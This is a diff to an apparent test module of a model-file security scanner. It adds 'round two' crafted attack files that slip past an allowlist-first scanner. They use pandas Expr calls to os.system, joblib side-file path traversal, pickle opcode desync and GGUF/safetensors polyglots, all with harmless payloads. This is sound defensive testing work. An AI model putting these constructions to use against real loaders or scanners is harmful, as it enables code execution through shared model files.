@@ -11,7 +11,10 @@ Each entry names the loader that runs its payload (see :mod:`modelshield.testing
 one by loading it for real), the family of technique, and the class of issue 14 it exercises: 1 callables on
 neither of the policy's lists, 2 parsing that differs from the loader's, 3 text matching where structure is
 needed, 4 false alarms (unused here). Nothing here ever runs a payload: files are assembled from raw pickle opcodes
-and bytes, or written by the real libraries and then patched. Payloads only run ``true``, read a system file,
+and bytes, or written by the real libraries and then patched. Entries named ``r2.*`` are a second round,
+written against the allowlist-first scanner: allowlisted callables that evaluate or load (pandas' ``Expr``,
+joblib's side-file wrappers), callables passed as arguments, joblib array wrappers that a reconstructor makes,
+joblib array bytes that ``pickle.load`` reads as opcodes, and pickles behind GGUF and safetensors magic. Payloads only run ``true``, read a system file,
 write a file relative to the loader's working directory, or connect to a closed port on 127.0.0.1.
 """
 
@@ -510,6 +513,264 @@ def _class3() -> dict[str, tuple[str, str, Callable[[], bytes]]]:
     return entries
 
 
+# -- second round: an attacker who has read the allowlist-first scanner -------------------------------------------
+
+
+class _Build:
+    """``obj`` then ``state`` then BUILD: state applied to what ``obj`` made."""
+
+    def __init__(self, obj: object, state: object) -> None:
+        self.obj, self.state = obj, state
+
+
+class _Raw:
+    """Bytes written into the stream as they are (array data that joblib reads raw)."""
+
+    def __init__(self, data: bytes) -> None:
+        self.data = data
+
+
+def _save_build(pickler: Any, obj: _Build) -> None:
+    pickler.save(obj.obj)
+    pickler.save(obj.state)
+    pickler.write(pickle.BUILD)
+
+
+def _save_raw(pickler: Any, obj: _Raw) -> None:
+    pickler.write(obj.data)
+
+
+_Pickler.dispatch[_Build] = _save_build
+_Pickler.dispatch[_Raw] = _save_raw
+
+_EXPR = ("pandas.core.computation.expr", "Expr")
+# pandas' expression evaluator resolves names in the globals of the frame that called it, then calls what it finds;
+# the loader's own frames hold ``os`` or ``sys``.
+_OS_CALL = "os.system('true')"
+_SYS_CALL = "sys.modules.get('posix').system('true')"
+_PAYLOAD = b"cposix\nsystem\n(Vtrue\ntR"  # a protocol-0 call without its STOP
+
+
+def _expr_object(expression: str, *args: object) -> object:
+    """An object that pickles (through the real libraries' picklers) as ``Expr(expression, *args)``."""
+    from pandas.core.computation.expr import Expr
+
+    class _Reduces:
+        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+            return (Expr, (expression, *args))
+
+    return _Reduces()
+
+
+def _torch_save(obj: object) -> bytes:
+    import torch
+
+    buffer = io.BytesIO()
+    torch.save(obj, buffer)
+    return buffer.getvalue()
+
+
+def _joblib_dump(obj: object) -> bytes:
+    import joblib
+
+    buffer = io.BytesIO()
+    joblib.dump(obj, buffer)
+    return buffer.getvalue()
+
+
+def _npy_object(obj: object) -> bytes:
+    import numpy as np
+
+    array = np.empty(1, dtype=object)
+    array[0] = obj
+    buffer = io.BytesIO()
+    np.save(buffer, array, allow_pickle=True)
+    return buffer.getvalue()
+
+
+def _wrapper_state(count: int, *, align: bool = False) -> dict[str, object]:
+    """A joblib NumpyArrayWrapper's state for ``count`` uint8 values (joblib reads them raw after the BUILD)."""
+    state: dict[str, object] = {
+        "subclass": _Global("numpy", "ndarray"),
+        "shape": (count,),
+        "order": "C",
+        "dtype": _Call(_Global("numpy", "dtype"), "u1", False, True),
+        "allow_mmap": False,
+    }
+    if align:
+        state["numpy_array_alignment_bytes"] = 16
+    return state
+
+
+_WRAPPER = _Global("joblib.numpy_pickle", "NumpyArrayWrapper")
+
+
+def _wrapper_made_by(maker: _Call) -> bytes:
+    """A NumpyArrayWrapper that a reconstructor makes (not a call of the class itself): joblib still reads two raw
+    bytes after its BUILD; a walker that does not recognise the wrapper reads them as a bytes opcode over the
+    payload that joblib then runs."""
+    body = _PAYLOAD + b"0"
+    return _dumps([_Build(maker, _wrapper_state(2)), _Raw(b"C" + bytes([len(body)]) + body)])
+
+
+def _wrapper_pickle_view(*, align: bool) -> bytes:
+    """A joblib array whose raw bytes, read by ``pickle.load`` (or torch's legacy path) as opcodes, jump into a
+    bytes constant of the outer stream that joblib and the scanner read as data, and run what it holds."""
+    count = 6
+    body = _PAYLOAD + b"0"
+    wrapper = _Call(_WRAPPER, _Global("numpy", "ndarray"), (count,), "C", _Call(_Global("numpy", "dtype"), "u1"))
+    if align:
+        # padding length 78 ('N'): joblib skips 78 bytes; pickle.load reads NONE, then the padding as opcodes
+        padding = body + b"C" + bytes([78 - len(body) - 2 + count])
+        raw = b"N" + padding.ljust(78, b"\x00") + bytes(count)
+        return _dumps([_Build(wrapper, _wrapper_state(count, align=True)), _Raw(raw)])
+    data = b"C" + bytes([count]) + bytes(count - 2)  # covers the rest of the data and the constant's own header
+    return _dumps([_Build(wrapper, _wrapper_state(count)), _Raw(data + b"C" + bytes([len(body)]) + body)])
+
+
+def _side_file(path: str, cls: str = "NDArrayWrapper") -> bytes:
+    """joblib's pre-0.10 array wrappers name a side file that joblib opens relative to the model (absolute paths
+    and ``..`` included) and reads with ``numpy.load(allow_pickle=True)`` or its zlib reader."""
+    wrapper = _Call(
+        _Global("copyreg", "_reconstructor"), _Global("joblib.numpy_pickle", cls), _Global("builtins", "object"), None
+    )
+    state: dict[str, object] = {"filename": path, "subclass": _Global("numpy", "ndarray"), "allow_mmap": False}
+    if cls == "ZNDArrayWrapper":
+        state = {"filename": path, "init_args": (_Global("numpy", "ndarray"), (0,), "b"), "state": None}
+    return _dumps([_Build(wrapper, state)])
+
+
+def _gguf_polyglot() -> bytes:
+    """``GGUF`` magic that is also a pickle: ``G`` is BINFLOAT, which swallows the version; then POP and a call."""
+    return b"GGUF\x03\x00\x00\x00\x00" + b"0" + _PAYLOAD + b"."
+
+
+def _safetensors_polyglot() -> bytes:
+    """A safetensors header length whose first byte is BINFLOAT (``G``): it swallows the rest of the length and the
+    ``{``; then the pickle runs. The JSON header lies past the first 4 KiB, so the identifier never parses it."""
+    size = 0x2047
+    head = struct.pack("<Q", size) + b"{"
+    body = b"0" + _PAYLOAD + b"."
+    return head + body + b" " * (size + 8 - len(head) - len(body)) + b"}"
+
+
+def _round2() -> dict[str, tuple[int, str, str, Callable[[], bytes]]]:
+    expr_inst = b"(S'os.system(\"true\")'\nipandas.core.computation.expr\nExpr\n."
+    return {
+        "r2.pandas-expr-eval.pkl": (1, "pickle", "allowlisted evaluator", lambda: _call(*_EXPR, _OS_CALL)),
+        "r2.pandas-expr-python-parser.pkl": (
+            1,
+            "pickle",
+            "allowlisted evaluator",
+            lambda: _call(*_EXPR, "subprocess.getoutput('true')", "python", "python"),
+        ),
+        "r2.pandas-expr-sys-modules.pkl": (1, "pickle", "allowlisted evaluator", lambda: _call(*_EXPR, _SYS_CALL)),
+        "r2.pandas-expr-inst-opcode.pkl": (1, "pickle", "allowlisted evaluator", lambda: expr_inst),
+        "r2.pandas-expr-torch-zip.pt": (
+            1,
+            "torch",
+            "allowlisted evaluator",
+            lambda: _torch_save({"w": [1.0], "cfg": _expr_object(_SYS_CALL)}),
+        ),
+        "r2.pandas-expr-legacy-torch-4th.pt": (
+            1,
+            "torch",
+            "allowlisted evaluator",
+            lambda: _legacy_torch(4, expr_inst),
+        ),
+        "r2.pandas-expr-joblib.joblib": (
+            1,
+            "joblib",
+            "allowlisted evaluator",
+            lambda: _joblib_dump({"coef": [1.0], "x": _expr_object(_SYS_CALL)}),
+        ),
+        "r2.pandas-expr-joblib-lz4.joblib": (
+            1,
+            "joblib",
+            "allowlisted evaluator",
+            lambda: _lz4(_call(*_EXPR, _SYS_CALL)),
+        ),
+        "r2.pandas-expr-npy-object.npy": (
+            1,
+            "numpy",
+            "allowlisted evaluator",
+            lambda: _npy_object(_expr_object(_SYS_CALL, "pandas", "pandas", None, 2)),  # level 2: np.load's caller
+        ),
+        "r2.torch-rebuild-from-type-callable-arg.pkl": (
+            1,
+            "pickle",
+            "callable taken from arguments",
+            lambda: _call(
+                "torch._tensor",
+                "_rebuild_from_type_v2",
+                _Global(*_EXPR),
+                _Global("torch", "Tensor"),
+                (_OS_CALL, "pandas", "pandas", None, 1),
+                {},
+            ),
+        ),
+        "r2.joblib-ndarraywrapper-abs-path.joblib": (
+            1,
+            "joblib",
+            "joblib side-file loader",
+            lambda: _side_file(_READ),
+        ),
+        "r2.joblib-ndarraywrapper-traversal.joblib": (
+            1,
+            "joblib",
+            "joblib side-file loader",
+            lambda: _side_file("../" * 12 + _READ.lstrip("/")),
+        ),
+        "r2.joblib-zndarraywrapper-abs-path.joblib": (
+            1,
+            "joblib",
+            "joblib side-file loader",
+            lambda: _side_file(_READ, "ZNDArrayWrapper"),
+        ),
+        "r2.joblib-wrapper-reconstructor-desync.joblib": (
+            2,
+            "joblib",
+            "joblib array wrapper made indirectly",
+            lambda: _wrapper_made_by(
+                _Call(_Global("copyreg", "_reconstructor"), _WRAPPER, _Global("builtins", "object"), None)
+            ),
+        ),
+        "r2.joblib-wrapper-newobj-desync.joblib": (
+            2,
+            "joblib",
+            "joblib array wrapper made indirectly",
+            lambda: _wrapper_made_by(_Call(_Global("copyreg", "__newobj__"), _WRAPPER)),
+        ),
+        "r2.joblib-array-data-pickle-view.pkl": (
+            2,
+            "pickle",
+            "joblib array bytes read as opcodes",
+            lambda: _wrapper_pickle_view(align=False),
+        ),
+        "r2.joblib-array-padding-pickle-view.pkl": (
+            2,
+            "pickle",
+            "joblib array bytes read as opcodes",
+            lambda: _wrapper_pickle_view(align=True),
+        ),
+        "r2.joblib-array-data-torch-view.pt": (
+            2,
+            "torch",
+            "joblib array bytes read as opcodes",
+            lambda: _wrapper_pickle_view(align=False),
+        ),
+        "r2.gguf-pickle-polyglot.pkl": (2, "pickle", "polyglot claimed by another format", _gguf_polyglot),
+        "r2.gguf-pickle-polyglot-torch.gguf": (2, "torch", "polyglot claimed by another format", _gguf_polyglot),
+        "r2.gguf-pickle-polyglot-joblib.gguf": (2, "joblib", "polyglot claimed by another format", _gguf_polyglot),
+        "r2.safetensors-pickle-polyglot.pkl": (
+            2,
+            "pickle",
+            "polyglot claimed by another format",
+            _safetensors_polyglot,
+        ),
+    }
+
+
 def write_attack_corpus(root: Path) -> list[AttackEntry]:
     """Write every attack file under ``root`` (created if needed); the entries, in a stable order."""
     root.mkdir(parents=True, exist_ok=True)
@@ -518,4 +779,7 @@ def write_attack_corpus(root: Path) -> list[AttackEntry]:
         for name, (loader, family, build) in table.items():
             (root / name).write_bytes(build())
             entries.append(AttackEntry(name=name, loader=loader, family=family, klass=klass))
+    for name, (klass, loader, family, build) in _round2().items():
+        (root / name).write_bytes(build())
+        entries.append(AttackEntry(name=name, loader=loader, family=family, klass=klass))
     return entries
